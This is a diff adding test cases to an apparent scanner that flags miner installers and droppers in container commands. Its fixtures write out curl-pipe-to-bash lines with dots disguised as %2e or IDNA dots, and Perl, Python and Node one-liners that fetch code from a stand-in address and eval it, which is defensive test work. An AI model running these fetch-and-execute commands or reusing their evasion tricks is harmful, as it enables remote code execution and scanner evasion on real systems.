@@ -322,6 +322,14 @@ t.test("the installer search's dot gate: a listed host cannot be named without a
     refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', `\${D}`)} | bash`] })
   })
 
+  t.test('a host whose every dot is escaped (%2e) or an IDNA dot passes the gate', async (t) => {
+    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '%2e')} | bash`] })
+    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '%E3%80%82')} | bash`] })
+    // The IDNA spelling reaches the search as the scanner's IDN-mapped copy, which has its dots.
+    const found = verdicts({ command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '\u3002')} | bash`] }, 'miner-signals')
+    t.match(found[0]?.message, /\(IDN-mapped\): downloads a miner installer/)
+  })
+
   t.test('a download hidden in base64 passes the gate through its decoded text', async (t) => {
     const hidden = Buffer.from(`curl -sL https://${script} | bash`).toString('base64')
     refusedAsInstaller(t, { command: ['sh', '-c', `echo ${hidden} | base64 -d | sh`] })
@@ -583,6 +591,50 @@ t.test('a Perl one-liner that loads LWP with -M and evals what it gets is a drop
   // Loading LWP without executing what it gets is no dropper.
   const kinds = scannerSays(gatedScanner, { command: ['perl', '-MLWP::Simple', '-e', 'getstore("http://203.0.113.9/x", "x")'] }).map((s) => s.kind)
   t.notOk(kinds.includes('download-to-shell'), JSON.stringify(kinds))
+})
+
+t.test('a Perl, Python or Node one-liner that evals what a socket or LWP returns, without parentheses or spaces, is a dropper', async (t) => {
+  for (const command of [
+    ['sh', '-c', `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:80");print $s "GET /x HTTP/1.0\\r\\n\\r\\n";eval join"",<$s>'`],
+    ['perl', '-e', 'use IO::Socket;$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.9:80");print $s "GET /x\\n";eval join q(),<$s>'],
+    ['perl', '-e', 'use LWP::Simple;eval+get"http://203.0.113.9/x"'],
+    ['perl', '-MLWP::Simple', '-e', 'eval +get q{http://203.0.113.9/x}'],
+    ['perl', '-e', 'use IO::Socket::INET;$s=IO::Socket::INET->new("203.0.113.9:80");print$s"GET /\\n";eval<$s>'],
+    ['perl', '-e', 'use IO::Socket::INET;$s=IO::Socket::INET->new("203.0.113.9:80");print$s"GET /\\n";eval do{local$/;<$s>}'],
+    ['perl', '-e', 'use IO::Socket::INET;$s=IO::Socket::INET->new("203.0.113.9:80");print$s"GET /\\n";eval scalar<$s>'],
+    // Perl's own socket(), and Python's: no module name to read, the call itself fetches.
+    ['sh', '-c', `perl -e 'use Socket;socket(S,2,1,6);connect(S,pack("SnC4x8",2,80,203,0,113,9));print S "GET /x\\n";eval join"",<S>'`],
+    ['python3', '-c', 'import socket;s=socket.create_connection(("203.0.113.9",80));s.send(b"GET /x\\n");exec(s.recv(99999))'],
+    ['node', '-e', 'const s=new (require("net").Socket)();s.connect(80,"203.0.113.9");s.on("data",d=>eval(String(d)))'],
+    ['node', '-e', 'const n=require("net");const s=new n.Socket();s.connect(80,"203.0.113.9");s.on("data",d=>eval(""+d))'],
+    ['node', '-e', 'require("node:net").connect(80,"203.0.113.9").on("data",d=>eval(""+d))'],
+  ]) {
+    const container = { command }
+    const name = JSON.stringify(command)
+    t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container), name)
+    const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
+    t.ok(kinds.includes('download-to-shell'), `${name}: ${JSON.stringify(kinds)}`)
+    // With the address in a URL (6) the dropper (4) reaches the refusal threshold.
+    if (command.some((word) => word.includes('http://'))) t.equal(verdicts(container, 'miner-signals')[0]?.action, 'deny', name)
+  }
+})
+
+t.test('eval of a block, or of text no socket or LWP fetched, is no dropper', async (t) => {
+  for (const command of [
+    // `eval {…}` runs the block: what getstore saves or get returns is never run as code.
+    ['perl', '-MLWP::Simple', '-e', 'eval { getstore("http://203.0.113.9/x", "x") }; print "saved\n"'],
+    ['perl', '-MLWP::Simple', '-e', 'my $page = eval{get"http://203.0.113.9/x"}; print length $page'],
+    ['perl', '-e', 'use IO::Socket::INET; my $s = IO::Socket::INET->new("db.internal:5432") or die; eval { close $s }'],
+    ['perl', '-e', 'eval join ";", @ARGV', 'print 1', 'print 2'],
+    ['python3', '-c', 'import socket; print(socket.gethostname())'],
+    ['node', '-e', 'require("net").createServer((c) => c.end("ok")).listen(8080)'],
+  ]) {
+    const container = { command }
+    const name = JSON.stringify(command)
+    const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
+    t.notOk(kinds.includes('download-to-shell'), `${name}: ${JSON.stringify(kinds)}`)
+    t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container), name)
+  }
 })
 
 t.test('a pool named without its port connects, never reported by itself: curl -o file -u user is no miner', async (t) => {
